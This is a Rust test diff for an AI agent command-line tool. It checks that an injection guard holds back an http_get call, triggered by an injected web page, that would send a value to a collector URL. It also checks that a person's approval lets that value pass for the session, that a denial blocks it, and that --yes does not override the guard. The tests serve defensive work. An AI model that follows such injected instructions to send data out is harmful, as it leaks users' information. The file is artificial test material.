@@ -550,3 +550,128 @@ fn an_mcp_tool_declared_network_is_a_way_out_on_a_server_without_network() {
         "it was not posted"
     );
 }
+
+/// `corral run --mode full-auto --json --approvals stdin PROMPT` for the
+/// web scenario with its injection, where a person answers every approval
+/// request with `decision`; the events and the requests asked.
+fn answered(
+    python: &Path,
+    decision: &str,
+    turns: impl Fn(&Web) -> Vec<Value>,
+) -> (Web, Vec<Value>) {
+    use std::io::{BufRead as _, Write as _};
+    let web = Web::start(true);
+    let sb = project(python, &web, "");
+    crate::support::cassette::write(&sb, "office.cassette.json", &turns(&web));
+    let prompt = format!(
+        "Read the release notes at {} and add them to CHANGELOG.md",
+        web.page_url()
+    );
+    // The home directory lives as long as the run.
+    let cli = Cli::new();
+    let mut child = cli
+        .command(
+            &sb.ws(),
+            &[
+                "run",
+                "--provider",
+                "replay",
+                "--mode",
+                "full-auto",
+                "--json",
+                "--approvals",
+                "stdin",
+                &prompt,
+            ],
+        )
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("spawn");
+    let mut stdin = child.stdin.take().expect("stdin");
+    let stdout = std::io::BufReader::new(child.stdout.take().expect("stdout"));
+    let mut events = Vec::new();
+    for line in stdout.lines() {
+        let event: Value = serde_json::from_str(&line.expect("line")).expect("a JSON event");
+        if event["type"] == "approval_requested" {
+            // Nothing went out while the call waited.
+            assert!(web.collector.requests().is_empty());
+            let answer =
+                json!({"op": "approval", "call_id": event["call"]["id"], "decision": decision});
+            writeln!(stdin, "{answer}").expect("answer");
+            stdin.flush().expect("flush");
+        }
+        events.push(event);
+    }
+    assert!(child.wait().expect("wait").success());
+    (web, crate::with_model_ids(events))
+}
+
+#[test]
+fn a_person_who_approves_an_untrusted_value_lets_it_pass_for_the_session() {
+    let Some(python) = sdk_python() else { return };
+    let turns = |web: &Web| {
+        let url = format!("{}?log=parsing-is-faster", web.collect_url());
+        vec![
+            call_turn("c1", "web_fetch", json!({ "url": web.page_url() })),
+            call_turn("c2", "http_get", json!({ "url": url })),
+            call_turn("c3", "http_get", json!({ "url": url })),
+            answer_turn("Done."),
+        ]
+    };
+    let (web, events) = answered(&python, "approve", turns);
+    let asked: Vec<&Value> = events
+        .iter()
+        .filter(|e| e["type"] == "approval_requested")
+        .collect();
+    assert_eq!(
+        asked.len(),
+        1,
+        "not asked once: {asked:#?} {:#?}",
+        find(&events, "permission", "c2")
+    );
+    let guard = asked[0]["guard"].as_str().unwrap_or_default();
+    assert!(
+        guard.contains("injection guard")
+            && guard.contains(&format!("{}?log=parsing-is-faster", web.collect_url()))
+            && guard.contains("the result of `web_fetch`")
+            && guard.contains("approving it lets that value pass for the rest of the session"),
+        "{guard}"
+    );
+    assert_eq!(find(&events, "permission", "c2")["decision"], "approved");
+    // Approved once, the value passes for the session: c3 is not asked.
+    assert_eq!(find(&events, "permission", "c3")["decision"], "allow");
+    assert_eq!(web.collector.requests().len(), 2);
+
+    // Declined, nothing is sent and the model reads why.
+    let (web, events) = answered(&python, "deny", turns);
+    assert_eq!(find(&events, "permission", "c2")["decision"], "refused");
+    assert!(web.collector.requests().is_empty());
+}
+
+#[test]
+fn yes_does_not_approve_what_the_injection_guard_holds() {
+    let Some(python) = sdk_python() else { return };
+    let web = Web::start(true);
+    let sb = project(&python, &web, "");
+    let url = format!("{}?log=parsing-is-faster", web.collect_url());
+    crate::support::cassette::write(
+        &sb,
+        "office.cassette.json",
+        &[
+            call_turn("c1", "web_fetch", json!({ "url": web.page_url() })),
+            call_turn("c2", "http_get", json!({ "url": url })),
+            answer_turn("Done."),
+        ],
+    );
+    let prompt = format!("Read the release notes at {}", web.page_url());
+    let o = Cli::new().run(
+        &sb.ws(),
+        &["run", "--provider", "replay", "--yes", "--json", &prompt],
+    );
+    assert_exit(&o, 0);
+    let events = events(&o);
+    assert_held(&events, "c2", "/collect?log=parsing-is-faster");
+    assert!(web.collector.requests().is_empty(), "--yes let it through");
+}
